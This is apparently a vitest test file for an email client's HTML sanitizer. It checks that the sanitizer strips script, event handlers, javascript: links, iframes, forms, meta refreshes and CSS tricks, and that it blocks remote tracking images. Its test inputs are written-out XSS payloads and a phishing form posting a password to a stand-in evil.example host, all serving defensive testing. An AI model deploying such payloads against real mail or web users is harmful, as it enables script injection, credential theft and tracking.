// The message-body sanitizer (DOMPurify + remote-image blocking) against hostile mail HTML,
// run in jsdom (happy-dom mis-parses what DOMPurify relies on). The module is loaded by path at run time: it uses DOM types, which the
// repo's Node tsconfig (which type-checks this file) does not have; svelte-check checks it.
import { beforeAll, describe, expect, it } from 'vitest';

interface SanitizeModule {
  sanitizeMessageHtml(html: string, options: { showImages: boolean }): { html: string; blockedImages: number };
}

let sanitize: SanitizeModule['sanitizeMessageHtml'];

beforeAll(async () => {
  const modulePath: string = '../../renderer/src/lib/sanitize.ts';
  sanitize = ((await import(/* @vite-ignore */ modulePath)) as SanitizeModule).sanitizeMessageHtml;
});

function clean(html: string, showImages = false): string {
  return sanitize(html, { showImages }).html;
}

describe('sanitizeMessageHtml: active content', () => {
  it('drops <script> elements and their text', () => {
    const out = clean('<p>hi</p><script>alert(1)</script>');
    expect(out).not.toMatch(/<script/i);
    expect(out).not.toContain('alert(1)');
    expect(out).toContain('<p>hi</p>');
  });

  it('strips on* handlers such as <img onerror>', () => {
    const out = clean('<img src="data:image/png;base64,AAAA" onerror="alert(1)"><div onclick="x()" onmouseover="y()">t</div>');
    expect(out).not.toMatch(/onerror|onclick|onmouseover/i);
    expect(out).toContain('data:image/png;base64,AAAA');
  });

  it('removes javascript: and vbscript: links but keeps https and mailto ones', () => {
    const out = clean('<a href="javascript:alert(1)">a</a><a href=" JaVaScRiPt:alert(1)">b</a><a href="vbscript:x">c</a><a href="https://ok.example/">d</a><a href="mailto:x@y.z">e</a>');
    expect(out).not.toMatch(/javascript:|vbscript:/i);
    expect(out).toContain('href="https://ok.example/"');
    expect(out).toContain('href="mailto:x@y.z"');
  });

  it('removes <svg><script> and svg event handlers', () => {
    const out = clean('<svg><script>alert(1)</script><a xlink:href="javascript:alert(2)"><circle r="5" onload="alert(3)"/></a></svg>');
    expect(out).not.toMatch(/<script|alert|onload/i);
  });

  it('removes iframes, frames, objects, embeds and applets', () => {
    const out = clean('<iframe src="https://evil.example"></iframe><object data="x.swf"></object><embed src="x.swf"><frameset><frame src="x"></frameset><applet code="x"></applet>ok');
    expect(out).not.toMatch(/<(iframe|object|embed|frame|applet)/i);
    expect(out).toContain('ok');
  });

  it('removes forms and their controls (no phishing inside the popup)', () => {
    const out = clean('<form action="https://evil.example/steal"><input name="password" type="password"><button formaction="https://evil.example">Go</button><textarea></textarea></form>');
    expect(out).not.toMatch(/<(form|input|button|textarea)|action=/i);
  });

  it('removes <meta http-equiv=refresh> and <base href>', () => {
    const out = clean('<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/"><p>x</p>');
    expect(out).not.toMatch(/<meta|<base|refresh|evil\.example/i);
    expect(out).toContain('<p>x</p>');
  });

  it('neutralises CSS expressions, javascript: and @import in styles', () => {
    const out = clean('<style>@import url(https://evil.example/a.css); p { color: red }</style><p style="width: expression(alert(1)); background: url(javascript:alert(2))">x</p>');
    expect(out).not.toMatch(/expression\s*\(|javascript:|@import/i);
    expect(out).toContain('color: red');
  });

  it('removes <link> stylesheets and srcdoc/ping attributes', () => {
    const out = clean('<link rel="stylesheet" href="https://evil.example/x.css"><a href="https://ok.example" ping="https://evil.example/ping">a</a>');
    expect(out).not.toMatch(/<link|ping=/i);
  });
});

describe('sanitizeMessageHtml: remote images', () => {
  it('blocks remote <img src> (and tracking pixels) until Show images, counting them', () => {
    const html = '<img src="https://tracker.example/p.gif" width="1"><img src="http://cdn.example/a.png"><img src="//cdn.example/b.png">';
    const hidden = sanitize(html, { showImages: false });
    expect(hidden.html).not.toMatch(/tracker\.example|cdn\.example/);
    expect(hidden.blockedImages).toBe(3);
  });

  it('after Show images keeps https images but never plain http', () => {
    const shown = sanitize('<img src="https://cdn.example/a.png"><img src="http://cdn.example/b.png">', { showImages: true });
    expect(shown.html).toContain('src="https://cdn.example/a.png"');
    expect(shown.html).not.toContain('http://cdn.example/b.png');
    expect(shown.blockedImages).toBe(1);
  });

  it('keeps inline data: images and cid: images without counting them', () => {
    const out = sanitize('<img src="data:image/png;base64,AAAA"><img src="cid:logo@mail">', { showImages: false });
    expect(out.html).toContain('data:image/png;base64,AAAA');
    expect(out.html).toContain('cid:logo@mail');
    expect(out.blockedImages).toBe(0);
  });

  it('rewrites srcset, leaving only allowed candidates', () => {
    const out = sanitize('<img src="data:image/gif;base64,R0" srcset="https://cdn.example/a.png 1x, data:image/png;base64,AAAA 2x">', { showImages: false });
    expect(out.html).not.toContain('cdn.example');
    expect(out.html).toContain('srcset="data:image/png;base64,AAAA 2x"');
    expect(out.blockedImages).toBe(1);
  });

  it('blocks url(http…) backgrounds in style attributes and <style>, and the background attribute', () => {
    const out = sanitize(
      '<style>.a { background: url("https://evil.example/bg.png") }</style><table><tr><td background="https://evil.example/td.png">x</td></tr></table><p style="background-image: url(http://evil.example/p.png)">y</p>',
      { showImages: false },
    );
    expect(out.html).not.toContain('evil.example');
    expect(out.blockedImages).toBe(3);
  });

  it('keeps https CSS backgrounds once images are shown', () => {
    const out = sanitize('<p style="background: url(https://cdn.example/p.png)">y</p>', { showImages: true });
    expect(out.html).toContain('https://cdn.example/p.png');
    expect(out.blockedImages).toBe(0);
  });

  it('blocks remote <video poster> and <picture><source srcset>', () => {
    const out = sanitize('<video poster="https://evil.example/v.png"></video><picture><source srcset="https://evil.example/s.webp"></picture>', { showImages: false });
    expect(out.html).not.toContain('evil.example');
    expect(out.blockedImages).toBe(2);
  });
});
